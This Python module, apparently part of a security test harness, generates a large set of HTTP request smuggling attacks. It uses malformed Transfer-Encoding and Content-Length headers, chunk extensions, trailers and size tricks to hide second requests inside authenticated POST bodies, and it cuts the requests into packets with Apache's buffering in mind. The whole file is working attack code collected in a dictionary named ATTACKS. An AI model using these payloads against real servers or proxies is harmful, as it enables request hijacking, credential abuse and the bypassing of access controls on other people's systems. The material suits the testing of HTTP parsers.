"""Requests whose bodies would be requests, were their end not found where it is."""

from .service import BASE
from .streams import CREDENTIALS, HIDDEN, LIST

# A chunked body that ends at once for who reads chunks, and a length for who does not.
_ENDED = b"0\r\n\r\n"
_CODINGS = {
    "chunked": b"Transfer-Encoding: chunked",
    "identity": b"Transfer-Encoding: identity",
    "chunked-identity": b"Transfer-Encoding: chunked, identity",
    "identity-chunked": b"Transfer-Encoding: identity, chunked",
    "gzip-chunked": b"Transfer-Encoding: gzip, chunked",
    "space": b"Transfer-Encoding:  chunked",
    "tab": b"Transfer-Encoding: \tchunked",
    "only-tab": b"Transfer-Encoding:\tchunked",
    "space-after": b"Transfer-Encoding: chunked ",
    "vertical-tab": b"Transfer-Encoding: \x0bchunked",
    "nul": b"Transfer-Encoding: chunked\0",
    "x": b"Transfer-Encoding: xchunked",
    "capital": b"Transfer-Encoding: Chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "parameter": b"Transfer-Encoding: chunked;a=b",
    "empty": b"Transfer-Encoding:",
    "space-before-colon": b"Transfer-Encoding : chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "after-lf": b"X: y\nTransfer-Encoding: chunked",
    "after-cr": b"X: y\rTransfer-Encoding: chunked",
    "two-last-identity": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two-first-identity": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "two-chunked": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "two-x": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
}
_LENGTHS = {
    "plus": b"+%d",
    "minus": b"-%d",
    "hexadecimal": b"0x%x",
    "space-within": b"0 %d",
    "list": b"%d, %d",
    "two": b"%d\r\nContent-Length: %d",
    "two-first-0": b"0\r\nContent-Length: %d",
    "two-last-0": b"%d\r\nContent-Length: 0",
    "fraction": b"%d.0",
    "underscore": b"0_%d",
    "lf": b"%d\nX: y",
    "folded": b"\r\n %d",
    "nul": b"%d\0",
}
_EXTENSIONS = {
    "plain": b";a=b",
    "quotes": b';a="b"',
    "open-quotes": b';a="b',
    "crlf-in-quotes": b';a="\r\n"',
    "cr": b";a\rb",
    "lf": b";a\nb",
    "lf-at-once": b";\n",
    "cr-in-quotes": b';a="\r"',
    "lf-in-quotes": b';a="\n"',
    "space": b" ;a=b",
    "end-in-quotes": b';a="\r\n0\r\n\r\n',
}
_TRAILERS = {
    "plain": b"X: a\r\n",
    "length": b"Content-Length: 70\r\n",
    "coding": b"Transfer-Encoding: chunked\r\n",
    "host": b"Host: b\r\n",
    "lf": b"X: a\n",
    "only-lf": b"\n",
    "no-colon": b"X\r\n",
}
_SIZES = {
    "0x": b"0x%x",
    "plus": b"+%x",
    "minus": b"-%x",
    "space-before": b" %x",
    "space-after": b"%x ",
    "overflow": b"1000000000000000%x",
    "underscore": b"0_%x",
    "capital": b"%X",
    "nul": b"%x\0",
}


def _chunked(payload, size=b"%x", extension=b"", line_end=b"\r\n", data_end=b"\r\n", trailers=b""):
    chunk = size % len(payload) + extension + line_end + payload + data_end
    return chunk + b"0\r\n" + trailers + b"\r\n"


def _fill(form, length):
    return form % ((length,) * form.count(b"%"))


def _align(payload, size):
    """Lengthen a whole request to a size by fields that mean nothing."""
    fields = b""
    while (missing := size - len(payload) - len(fields)) > 0:
        room = min(missing, 8000) if missing - 8000 not in range(1, 10) else missing - 20
        fields += b"X-Pad: " + b"a" * (room - 9) + b"\r\n"
    return payload[:-2] + fields + payload[-2:]


def _framed():
    """Yield (name, fields of the framing, body)."""
    for number, hidden in enumerate(HIDDEN):
        for digits in (2, 18, 19, 30, 5000):
            length = b"Content-Length: %0*d" % (digits, len(hidden))
            yield f"{digits}-digits-{number}", length, hidden
    for digits in (5, 19, 30, 5000):
        # Where it is cut, at a multiple of 8 KiB, a request begins.
        body = _align(HIDDEN[0], 8192) * 3
        yield f"{digits}-digits-long", b"Content-Length: %0*d" % (digits, len(body)), body
    for name, coding in _CODINGS.items():
        for number, hidden in enumerate(HIDDEN[::2]):
            body = _ENDED + hidden
            length = b"Content-Length: %d" % len(body)
            yield f"coding-{name}-{number}", coding, _chunked(hidden)
            yield f"length-coding-{name}-{number}", length + b"\r\n" + coding, body
            yield f"coding-{name}-length-{number}", coding + b"\r\n" + length, body
            short = b"Content-Length: 5\r\n" + coding
            yield f"short-length-coding-{name}-{number}", short, _chunked(hidden)
    for name, form in _LENGTHS.items():
        yield f"length-{name}", b"Content-Length: " + _fill(form, len(HIDDEN[0])), HIDDEN[0]
    coding = b"Transfer-Encoding: chunked"
    for name, extension in _EXTENSIONS.items():
        yield f"extension-{name}", coding, _chunked(b"a", extension=extension) + HIDDEN[2]
        yield f"extension-{name}-hidden", coding, _chunked(HIDDEN[0], extension=extension)
    for name, trailers in _TRAILERS.items():
        yield f"trailers-{name}", coding, _chunked(HIDDEN[0], trailers=trailers)
    for name, size in _SIZES.items():
        yield f"size-{name}", coding, _chunked(HIDDEN[0], size=size)
    for name, line_end in {"lf": b"\n", "cr": b"\r", "none": b"", "crcrlf": b"\r\r\n"}.items():
        yield f"size-line-{name}", coding, _chunked(HIDDEN[0], line_end=line_end)
        yield f"data-end-{name}", coding, _chunked(HIDDEN[0], data_end=line_end)


def _attacks():
    line = f"POST {LIST} HTTP/1.1\r\nHost: a\r\n".encode() + CREDENTIALS + b"\r\n"
    for name, fields, body in _framed():
        yield name, line + fields + b"\r\n\r\n", body
        yield f"{name}-lf-head", line + fields + b"\n\n", body
        if name in ("2-digits-0", "coding-chunked-0"):
            yield f"{name}-lf-lines", (line + fields + b"\r\n\r\n").replace(b"\r", b""), body
        if name.startswith(("coding", "short")) or name.endswith("digits-0"):
            old = line.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Connection: keep-alive\r\n"
            yield f"{name}-1.0", old + fields + b"\r\n\r\n", body
        if "digits" in name:
            for method, path in (("GET", "/Logout"), ("POST", "/Health")):
                unknown = f"{method} {BASE}{path} HTTP/1.1\r\nHost: a\r\n".encode()
                yield f"{name}-{method}{path}", unknown + fields + b"\r\n\r\n", body


# {name: (head, body)}
ATTACKS = {name: (head, body) for name, head, body in _attacks()}


# Apache reads so much of a body before it passes on the head.
BLOCK = 16384


def cut_blocks(head, body):
    """Cut between head and body, and a long body."""
    return [head, *(body[at : at + BLOCK] for at in range(0, len(body), BLOCK))]


# Cut nowhere; between head and body; within the head and after each line of the body.
CUTS = {
    "whole": lambda head, body: [head + body],
    "blocks": cut_blocks,
    "lines": lambda head, body: [head[:-3], head[-3:], *body.splitlines(keepends=True)],
}
